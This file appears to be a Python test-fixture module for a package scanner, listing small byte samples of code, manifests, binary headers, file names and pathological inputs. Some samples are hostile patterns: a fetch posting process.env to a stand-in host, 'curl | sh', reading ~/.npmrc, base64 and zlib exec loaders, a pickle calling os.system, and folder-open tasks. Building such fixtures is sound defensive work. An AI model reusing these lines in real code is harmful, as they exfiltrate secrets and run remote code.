"""Small inert inputs that every language module must bear: its own, another's, and nobody's."""

import gzip
import zlib
from base64 import b64encode

HOST = "https://drop.example.invalid/x"

JAVASCRIPT = (
    b"const cp = require('child_process'); cp.exec('echo ' + ['h','i'].join(''));",
    b"fetch('" + HOST.encode() + b"', {method: 'POST', body: JSON.stringify(process.env)})",
    b"eval(Buffer.from('" + b64encode(b"console.log(1)") + b"', 'base64').toString())",
    b"const t = `a${1 + 1}b`; export default async () => { for await (const x of y) yield_(x) }",
    b"class A { #p = 1; static { this.q = 2 } get r() { return this.#p ?? 0 } }\n<div>{a}</div>",
    b"var _0x1=['\\x68','\\u0069'];(function(a,b){while(!![]){try{break}catch(e){a.push(a.shift())}}}(_0x1,1));",
    b"type A = { b: string }; abstract class C<T extends A> { constructor(private readonly x?: T) {} }",
    b"\xef\xbb\xbf'use strict';\r\nwindow.ethereum.request = 1;\r\n",
    b"require('fs').unlinkSync('\\ud800')",
)
PYTHON = (
    b"import os, subprocess\nsubprocess.run(['id'])\nprint(os.environ)\n",
    b"from base64 import b64decode as d\nexec(d('" + b64encode(b"print(1)") + b"'))\n",
    b"import zlib\nexec(zlib.decompress(bytes.fromhex('" + zlib.compress(b"print(1)").hex().encode() + b"')))\n",
    b"def f(a, /, b, *, c=1) -> int:\n    match a:\n        case {'x': [1, *_]}: return f'{b!r:>{c}}'\n",
    b"import sys; exec(open('x').read())\n",
    b"from setuptools import setup\nsetup(cmdclass={'install': 1})\n",
    b"print 'two'\nexec 'x'\n",
    b"getattr(__import__('o' + 's'), 'system')('true')\n",
    b"import os\nos.remove('\\udcff')\n",
)
SHELL = (
    b"#!/bin/sh\ncurl -s " + HOST.encode() + b" | sh\n",
    b"node -e 'require(\"fs\")' && rm -rf /nonexistent/x; echo $(cat ~/.npmrc)\n",
    b'if [ -f a ]; then\n  eval "$b"\nfi <<EOF\ntext\nEOF\n',
)
DATA = (
    b'{"name": "x", "scripts": {"postinstall": "node a.js"}, "dependencies": {"y": "^1"}}',
    b'{"a": [1, 2, {"b": null}]}',
    b"{'targets': [{'target_name': 'x', 'actions': [{'action': ['sh', '-c', 'true']}]}]}",
    b"Metadata-Version: 2.1\nName: x\nVersion: 1\n\ntext\n",
    b"plain text with \xe2\x80\xae hidden \xe2\x80\x8b marks\n",
    b"\x7fELF\x02\x01\x01" + b"\0" * 64,
    b"MZ" + b"\0" * 64 + b"PE\0\0",
    b"\xcf\xfa\xed\xfe" + b"\0" * 32,
    b"\0asm\x01\0\0\0",
    b"PK\x03\x04" + b"\0" * 30,
    b"\x89PNG\r\n\x1a\n" + b"\0" * 16,
    b"<script>fetch('" + HOST.encode() + b"')</script><p onload='eval(1)'>",
    b'{"cells": [{"cell_type": "code", "source": ["!ls\\n", "import os"]}]}',
    b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.",
    b"\xa7\x0d\r\n" + b"\0" * 12 + b"c" + b"\0" * 20 + b"z\0" * 12,
    zlib.compress(b"import os")[:4],
    gzip.compress(b"import os\nos.system('true')\n", mtime=0),
    b"cdef extern from 'x.h':\n int system(const char *)\ncdef int f(int a) except -1:\n return <int>system('true')\n",
    b"{'s': ['<!(echo x)', \"<!@(pymod_do_main(a.b c))\"], 'conditions': [['OS==\"x\"', {}]]}",
    b"[options]\ncmdclass =\n  build = a.b.C\n[metadata]\nversion = attr: a.v\n",
    b"[build-system]\nbuild-backend = 'a:b'\nbackend-path = ['.']\n[project.scripts]\nx = 'a:b'\n",
    b'do shell script "curl ' + HOST.encode() + b'"',
    b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c " & StrReverse("di")\n',
    b'{"tasks": [{"command": "true", "runOptions": {"runOn": "folderOpen"}}]}',
)
BROKEN = (
    b"",
    b"\0",
    b"\xff\xfe\x00\xd8",
    b"(((((",
    b"'unterminated",
    b'"""unterminated',
    b"/* unterminated",
    b"`${`${`${",
    b"{" * 50,
    b"\xed\xa0\x80 surrogate",
    b"a\rb\rc\x0c\x0b\x85",
)
SAMPLES = JAVASCRIPT + PYTHON + SHELL + DATA + BROKEN
"""Every sample; each language reads all of them in all of its dialects."""

NAMES = (
    "index.js", "a.mjs", "a.cjs", "a.jsx", "a.ts", "a.mts", "a.cts", "a.tsx", "a.d.ts", "bin/cli", "a.min.js",
    "a.py", "a.pyi", "a.pyw", "a.pth", "setup.py", "setup.cfg", "pyproject.toml", "x.dist-info/METADATA",
    "x.dist-info/RECORD", "x.dist-info/entry_points.txt", "sitecustomize.py", "a.pyc", "a.sh", "a.bash", "install",
    "package.json", "binding.gyp", "a.json", "a.json5", "a.yml", "a.toml", "a.md", "README", "a.txt", "a.css", "a.html",
    "a.svg", "a.map", "a.node", "a.so", "a.dll", "a.dylib", "a.exe", "a.wasm", "a.png", "a.woff2", "a.zip", "a.tgz",
    "a.ipynb", "a.pkl", "a.pyx", "a.gypi", "a.vbs", "a.applescript", ".vscode/tasks.json", "tests/a.zip", ".yarnrc.yml",
    ".envrc", "app.js.map", ".npmrc", "CLAUDE.md", ".cursorrules", "a", "", ".", "..", "/",
    "a/", "a\0b", "\udcff", "A.JS", "a.js ", "a" * 5000,
)  # fmt: skip
"""Names that packages have, and names that only an attacker gives."""

DEEP = (
    b"(" * 20_000,
    b"[" * 20_000 + b"]" * 20_000,
    b"{" * 20_000,
    b"a+" * 20_000 + b"a",
    b"'a'+" * 20_000 + b"'a'",
    b"f(" * 20_000 + b")" * 20_000,
    b"if(a)" * 5_000 + b"{}",
    b"a" * 1_000_000,
    b"\n" * 200_000,
    b"'" + b"\\x41" * 100_000 + b"'",
    b"`${" * 10_000,
    b"not " * 20_000 + b"a",
    b"a." * 20_000 + b"a",
    b"eval(atob('" + b64encode(b"A" * 100_000) + b"'))",
)
"""Inputs that break recursion, or turn a bounded reader into an endless one."""
